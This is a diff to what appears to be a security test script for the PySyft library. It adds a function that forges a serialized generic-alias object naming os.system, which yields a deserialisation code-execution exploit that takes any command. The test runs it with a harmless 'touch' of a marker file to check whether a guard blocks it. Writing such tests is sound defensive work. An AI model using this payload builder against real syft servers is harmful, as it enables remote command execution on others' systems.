@@ -20,6 +20,26 @@ from sites.syft_client import quiet, syft  # noqa: E402
 sy = syft()
 
 
+def generic_alias_payload(command: str) -> bytes:
+    """Bytes syft reads as a `typing.List[int]` whose fields name `os.system(command=...)`:
+    syft 0.9.5's deserialiser calls whatever a serialized generic alias names."""
+    import typing
+
+    from syft.serde.serialize import _serialize
+    from syft.types.syft_object_registry import SyftObjectRegistry
+
+    name, version = SyftObjectRegistry.get_canonical_name_version(typing.List[int])  # noqa: UP006
+    entries = SyftObjectRegistry.__object_serialization_registry__[name]
+    original = entries[version]
+    evil = (original[0], lambda _alias: _serialize({"path": "os.system", "command": command},
+                                                   to_bytes=True)) + tuple(original[2:])
+    entries[version] = evil  # serialise with a forged field list, then put syft back
+    try:
+        return _serialize(typing.List[int], to_bytes=True)  # noqa: UP006 (typing, not list)
+    finally:
+        entries[version] = original
+
+
 class SneakyOutput(sy.CustomOutputPolicy):
     def __init__(self):
         import os
@@ -48,6 +68,14 @@ def main() -> int:
         syft_guard.apply()
 
     out: dict[str, object] = {}
+    from syft.serde.deserialize import _deserialize
+
+    shell_mark = marks / "deserialised-shell-ran"
+    try:  # what every syft route does with a request body, before any check
+        _deserialize(generic_alias_payload(f"touch {shell_mark}"), from_bytes=True)
+    except Exception:
+        pass
+    out["deserialising_runs_a_shell"] = shell_mark.exists()
     with quiet():
         server = sy.orchestra.launch(name=f"medsyft-guard-{mode}", reset=True, dev_mode=False)
     try:
